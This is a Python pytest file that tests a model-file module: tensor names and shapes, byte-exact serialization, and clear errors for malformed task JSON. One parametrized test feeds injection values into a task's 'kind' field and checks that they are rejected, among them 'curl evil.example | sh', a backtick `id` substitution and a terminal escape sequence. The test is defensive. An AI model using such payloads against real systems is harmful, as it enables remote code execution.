"""One file for a model, whoever writes it: names and shapes of the signed task."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest
import safetensors.numpy
import torch
from helpers_result import SPEC, TASK

from auror.deployment.model_file import (
    model_bytes,
    named_tensors,
    own_code,
    read_model,
    tensor_shapes,
)
from auror.errors import DataError
from auror.learn.models import build, flatten


def test_tensors_have_the_names_shapes_and_values_of_the_state_dict() -> None:
    module = build(SPEC, seed=3)
    tensors = named_tensors(TASK, flatten(module))
    state = module.state_dict()
    assert list(tensors) == list(state)
    for name, tensor in state.items():
        assert torch.equal(torch.from_numpy(tensors[name]), tensor)


def test_the_file_reads_back_bit_for_bit_and_repeats_byte_for_byte(tmp_path: Path) -> None:
    model = flatten(build(SPEC, seed=3))
    content = model_bytes(TASK, model)
    assert all(model_bytes(TASK, model) == content for _ in range(5))
    path = tmp_path / "model.safetensors"
    path.write_bytes(content)
    assert read_model(path).tobytes() == model.tobytes()


def test_a_load_test_has_one_tensor() -> None:
    model = np.arange(5, dtype=np.float32)
    tensors = safetensors.numpy.load(model_bytes(b'{"synthetic":5}', model))
    assert list(tensors) == ["model"]
    assert np.array_equal(tensors["model"], model)


def test_a_model_of_another_size_is_no_model_of_the_task() -> None:
    with pytest.raises(ValueError, match="entries for tensors"):
        model_bytes(TASK, np.zeros(7, dtype=np.float32))


@pytest.mark.parametrize(
    "text", [b"[]", b"{", b'{"parameters":[{"name":"a"}]}', b'{"parameters":3}']
)
def test_what_is_no_task_is_one_clear_error(text: bytes) -> None:
    with pytest.raises(ValueError, match=r"task|JSON|property name"):
        tensor_shapes(text)


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("mine.tasks:Speech", "mine.tasks:Speech"),
        ("cnn", ""),
        ("mine:Speech; curl evil.example | sh", ""),
        ("mine:Speech`id`", ""),
        ("mine:\x1b[2JSpeech", ""),
        ([[]], ""),
    ],
)
def test_a_task_names_code_and_nothing_else(kind: object, code: str) -> None:
    assert own_code(json.dumps({"model": {"kind": kind}}).encode()) == code


def test_a_task_of_many_brackets_names_none() -> None:
    assert own_code(b"[" * 60_000) == ""


def test_a_file_that_is_no_model_is_one_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    with pytest.raises(DataError, match="is missing"):
        read_model(path)
    foreign = safetensors.numpy.save({"w": np.zeros(3, dtype=np.float32)})
    for content in (b"not tensors", foreign):
        path.write_bytes(content)
        with pytest.raises(DataError, match="not a model"):
            read_model(path)
